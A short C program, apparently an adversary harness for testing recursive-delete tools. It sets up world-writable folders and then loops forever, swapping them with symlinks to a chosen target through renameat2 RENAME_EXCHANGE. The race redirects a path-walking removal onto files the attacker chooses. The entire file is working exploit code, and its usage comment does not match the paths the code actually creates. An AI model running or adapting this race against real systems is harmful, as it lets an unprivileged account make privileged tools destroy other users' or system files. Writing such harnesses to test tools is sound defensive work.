/*
 * What another account does to whoever removes folders by their paths: it exchanges its own folders for links, over and
 * over, so that a walk that looks first and goes in afterwards goes where the links lead.
 *
 *   exchange BASE NAME TARGET   BASE/NAME becomes a folder that everybody may change; in it folders turn into links to
 *                               TARGET and back. BASE/NAME.link turns into a link to TARGET itself and back.
 *
 * Prints "ready" when all is prepared, and goes on until it is ended.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define FOLDERS 25
#define FILES 200

static void check(int failed, const char *what) {
  if (failed && errno != EEXIST) {
    perror(what);
    exit(1);
  }
}

static void make_folder(const char *path) {
  check(mkdir(path, 0777), path);
  check(chmod(path, 0777), path);
  char file[4096];
  for (int i = 0; i < FILES; i += 1) {
    snprintf(file, sizeof file, "%s/%d", path, i);
    int made = open(file, O_CREAT | O_WRONLY, 0666);
    check(made < 0, file);
    close(made);
  }
}

static int exchange(const char *one, const char *other) {
  return renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

int main(int count, char **words) {
  if (count != 4) return 2;
  umask(0);
  char folder[2048], whole[2048], link_to_whole[2048], file[4200];
  static char real[FOLDERS][4096], other[FOLDERS][4096];
  snprintf(folder, sizeof folder, "%s/%s-abcdef", words[1], words[2]);
  snprintf(whole, sizeof whole, "%s/%s-ghijkl", words[1], words[2]);
  snprintf(link_to_whole, sizeof link_to_whole, "%s/link", words[1]);
  check(mkdir(folder, 0777), folder);
  check(mkdir(whole, 0777), whole);
  check(symlink(words[3], link_to_whole), link_to_whole);
  for (int i = 0; i < FOLDERS; i += 1) {
    snprintf(real[i], sizeof real[i], "%s/d%d", folder, i);
    snprintf(other[i], sizeof other[i], "%s/l%d", folder, i);
    make_folder(real[i]);
    check(symlink(words[3], other[i]), other[i]);
  }
  puts("ready");
  fflush(stdout);
  for (;;) {
    for (int i = 0; i < FOLDERS; i += 1) {
      if (exchange(real[i], other[i]) == 0) continue;
      // One of them was removed meanwhile.
      mkdir(folder, 0777);
      unlink(real[i]);
      mkdir(real[i], 0777);
      close(creat(strcat(strcpy(file, real[i]), "/0"), 0666));
      check(symlink(words[3], other[i]), other[i]);
    }
    exchange(whole, link_to_whole);
  }
}
